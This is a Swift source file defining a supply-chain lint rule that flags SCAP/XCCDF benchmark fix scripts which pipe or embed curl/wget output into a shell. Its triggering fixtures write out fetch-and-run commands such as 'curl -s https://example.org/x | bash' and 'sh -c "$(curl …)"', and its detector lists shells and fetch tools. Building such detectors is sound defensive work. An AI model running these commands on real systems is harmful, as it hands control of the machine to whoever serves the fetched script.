import PatternKit
import SCAP
import XMLKit

extension LintRule {
    static let fetchAndRun = LintRule(
        "script-fetch-and-run", .supplyChain, .error, "A script runs what it fetches",
        "`curl … | sh` as root gives the system to whoever answers. Fetch a file, compare its digest, and then run it.",
        triggering: [
            .benchmark(
                "<Rule id='xccdf_a_rule_x'><title>t</title><fix system='urn:xccdf:fix:script:sh'>sh -c \"$(curl -s https://example.org/x)\"</fix></Rule>"
            ),
            .benchmark(
                "<Rule id='xccdf_a_rule_x'><title>t</title><fix system='urn:xccdf:fix:script:sh'>curl -s https://example.org/x | bash</fix></Rule>"
            ),
        ],
        clean: [
            .benchmark(
                "<Rule id='xccdf_a_rule_x'><title>t</title><fix system='urn:xccdf:fix:script:sh'>curl -s https://example.org/x | grep a</fix></Rule>"
            )
        ]
    ) { context in
        context.scripts.flatMap { script -> [Finding] in
            let commands = script.syntax.commands
            let shells: Set = ["sh", "bash", "dash", "python3", "python", "perl", "eval", "source", "."]
            // `sh -c "$(curl …)"`, `eval "$(curl …)"`
            let inside = commands.filter { command in
                shells.contains(command.simple.first?.text ?? "")
                    && command.simple.dropFirst().contains { word in
                        ["$(curl ", "$(wget ", "`curl ", "`wget "].contains { word.text.contains($0) }
                    }
            }.map {
                Finding(script, line: $0.line, "'\($0.simple.first?.text ?? "")' runs what is fetched inside of it")
            }
            return inside
                + zip(commands, commands.dropFirst()).compactMap { fetch, run in
                    guard fetch.isPiped, ["curl", "wget"].contains(fetch.simple.first?.text),
                        shells.contains(run.simple.first(where: { $0.text != "sudo" })?.text ?? "")
                    else { return nil }
                    return Finding(
                        script, line: fetch.line,
                        "'\(run.simple.first?.text ?? "")' runs what '\(fetch.simple.first?.text ?? "")' fetches")
                }
        }
    }
}
